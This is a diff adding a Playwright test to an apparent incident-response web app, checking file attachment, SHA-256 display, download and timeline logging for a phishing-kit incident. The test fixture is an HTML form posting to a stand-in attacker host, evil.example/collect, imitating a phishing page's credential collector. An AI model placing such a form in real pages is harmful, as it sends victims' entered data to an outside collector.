@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { after, before, describe, it } from 'node:test';
 import type { Browser, Page } from 'playwright-core';
 import {
@@ -254,6 +255,32 @@ describe('incident pages in Chromium', { skip }, () => {
       [[orgId, 'confirmed']],
     );
     await screenshot(page, '115-incidents-constituent-confirmed');
+  });
+
+  it('attaches a file: size shown before upload, then SHA-256 and a download link', async () => {
+    const created = await newIncident('Phishing kit found on a hosting server');
+    await page.goto(`${server.baseUrl}/incidents/${created.id}`);
+    const panel = page.getByTestId('attachments-panel');
+    const content = Buffer.from(
+      '<html><form action="https://evil.example/collect"></form></html>\n',
+    );
+    await panel.getByLabel('File to attach').setInputFiles({
+      name: 'kit.html',
+      mimeType: 'text/html',
+      buffer: content,
+    });
+    await panel.getByText(/^kit\.html: \d+ byte/).waitFor();
+    await page.getByTestId('attachment-upload').click();
+    const item = panel.locator('[data-attachment="kit.html"]');
+    await item.waitFor();
+    const sha256 = createHash('sha256').update(content).digest('hex');
+    await item.getByText(sha256).waitFor();
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      item.getByRole('link', { name: 'kit.html' }).click(),
+    ]);
+    assert.equal(download.suggestedFilename(), 'kit.html');
+    await page.getByTestId('timeline').getByText('File attached: kit.html').waitFor();
   });
 
   it('notifies the affected constituent through the dialog: preview in its language, refusals named, sent over SMTP', async () => {
